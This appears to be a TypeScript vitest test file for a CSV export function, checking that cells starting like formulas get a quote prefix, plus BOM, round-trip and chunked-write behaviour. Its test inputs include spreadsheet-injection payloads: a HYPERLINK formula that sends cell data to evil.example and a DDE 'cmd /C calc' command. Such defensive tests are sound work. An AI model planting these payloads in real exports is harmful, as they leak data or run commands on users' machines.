import { createWriteStream, readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterEach, expect, it } from 'vitest';
import { toCsv, writeCsv } from './csv.js';
import { sectionOf } from './rows.js';
import { cleanTempDirs, tempDir } from './test-helpers.js';

afterEach(cleanTempDirs);

const section = (texts: string[]) =>
  sectionOf('Cases', [
    { key: 'id', header: 'case', type: 'string' },
    { key: 'summary', header: 'summary', type: 'string' },
    { key: 'minutes', header: 'minutes', type: 'integer' },
    { key: 'amount', header: 'amount', type: 'money' },
    { key: 'openedAt', header: 'opened at (UTC)', type: 'instant' },
  ], texts.map((t, i) => [`C-${i}`, t, -2, '12.50', '2026-03-01T02:00:00.000Z']));

const parse = (text: string) => {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const result = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
};

it.each([
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '＝1+1',
  '＋1',
  '－2',
  '＠SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '=cmd|\' /C calc\'!A0',
])('prefixes a cell starting like a formula with a quote: %j', (text) => {
  const [, row] = parse(toCsv(section([text])));
  expect(row![1]).toBe(`'${text}`);
});

it('leaves ordinary text, numbers and instants alone', () => {
  const [, row] = parse(toCsv(section(['云服务器无法连接 = 1', 'x'])));
  expect(row).toEqual(['C-0', '云服务器无法连接 = 1', '-2', '12.50', '2026-03-01T02:00:00.000Z']);
});

it('round-trips through papaparse: header, commas, quotes, newlines and Chinese, UTF-8 with BOM', async () => {
  const texts = ['plain', 'a, b', 'say "hi"', 'line 1\nline 2', '上海博远数据服务有限公司（ECS-1001）', ''];
  const file = join(tempDir(), 'out.csv');
  await writeCsv(section(texts), createWriteStream(file));
  const bytes = readFileSync(file);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows = parse(bytes.toString('utf8'));
  expect(rows[0]).toEqual(['case', 'summary', 'minutes', 'amount', 'opened at (UTC)']);
  expect(rows.slice(1).map((r) => r[1])).toEqual(texts);
  expect(rows).toHaveLength(texts.length + 1);
});

it('writes large sections in chunks with the same result as the whole text', async () => {
  const texts = Array.from({ length: 12_345 }, (_, i) => (i % 7 === 0 ? `=${i}` : `工单 ${i}`));
  const file = join(tempDir(), 'big.csv');
  await writeCsv(section(texts), createWriteStream(file));
  expect(readFileSync(file, 'utf8')).toBe(toCsv(section(texts)));
});

it('writes only the header for an empty report', () => {
  expect(toCsv(section([]))).toBe('\uFEFFcase,summary,minutes,amount,opened at (UTC)\r\n');
});
